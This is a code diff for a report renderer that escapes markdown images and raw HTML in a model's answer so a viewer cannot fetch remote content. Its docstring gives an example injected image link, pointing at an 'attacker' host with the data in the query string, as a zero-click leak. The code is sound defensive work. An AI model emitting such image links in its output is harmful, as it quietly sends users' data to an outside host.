@@ -3,8 +3,11 @@ cited ref: kind, title, values or excerpt, source), the "Not verified" claims an
 
 from __future__ import annotations
 
+import re
 from collections.abc import Mapping
 from typing import Any
+
+from markdown_it import MarkdownIt
 
 from refgate.report import cards as cardlib
 from refgate.report.run import header_facts
@@ -13,6 +16,50 @@ from refgate.report.shape import clean_run
 #: Characters that would let text from a document, a page or a model become markup in a
 #: markdown viewer (raw HTML, links, images, code spans, entities).
 _MD_SPECIAL = str.maketrans({c: "\\" + c for c in "\\<>[]!`&"})
+#: Fenced code lines and inline code spans of an answer (left as written).
+_FENCE = re.compile(r"^\s{0,3}(```|~~~)")
+_CODE_SPAN = re.compile(r"(`+)[^`].*?(?<!`)\1(?!`)|(`+)(?!`)")
+
+
+def _inert_line(line: str) -> str:
+    out, pos = [], 0
+    for m in _CODE_SPAN.finditer(line):
+        if m.group(1) is None:
+            continue
+        out.append(line[pos : m.start()].replace("![", "!\\[").replace("<", "\\<"))
+        out.append(m.group(0))
+        pos = m.end()
+    out.append(line[pos:].replace("![", "!\\[").replace("<", "\\<"))
+    return "".join(out)
+
+
+def _live_markup(md: str) -> bool:
+    """True when a CommonMark viewer would render an image or raw HTML from ``md``."""
+    for block in MarkdownIt("commonmark").parse(md):
+        if block.type == "html_block":
+            return True
+        if any(t.type in ("image", "html_inline") for t in block.children or []):
+            return True
+    return False
+
+
+def inert_answer(answer: str) -> str:
+    """The answer's markdown with images and raw HTML made text (``!\\[``, ``\\<``) outside
+    code: a markdown viewer would fetch an image as soon as the report is opened (an injected
+    ``![](https://attacker/?d=...)`` is a zero-click leak), and raw HTML can do the same. Links
+    and everything else stay markdown. Should any survive (a code span read differently), every
+    ``![`` and ``<`` is escaped, code included."""
+    lines, fenced = [], False
+    for line in answer.split("\n"):
+        if _FENCE.match(line):
+            fenced = not fenced
+            lines.append(line)
+            continue
+        lines.append(line if fenced else _inert_line(line))
+    out = "\n".join(lines)
+    if _live_markup(out):
+        out = answer.replace("![", "!\\[").replace("<", "\\<")
+    return out
 
 
 def _one_line(text: Any, limit: int = 300) -> str:
@@ -81,7 +128,7 @@ def render_run_markdown(record: Mapping[str, Any]) -> str:
         meta.append(f"cost: ${facts['cost_usd']:.4f} (estimated)")
     if facts["seconds"] is not None:
         meta.append(f"time: {facts['seconds']} s")
-    out = [*head, " · ".join(meta), "", "## Answer", "", answer or "_(no answer)_", ""]
+    out = [*head, " · ".join(meta), "", "## Answer", "", inert_answer(answer) or "_(no answer)_", ""]
     cited, _ = cardlib.build_cards(answer, refs, gate)
     if cited:
         out += ["## References", "", *(_reference(c) for c in cited), ""]
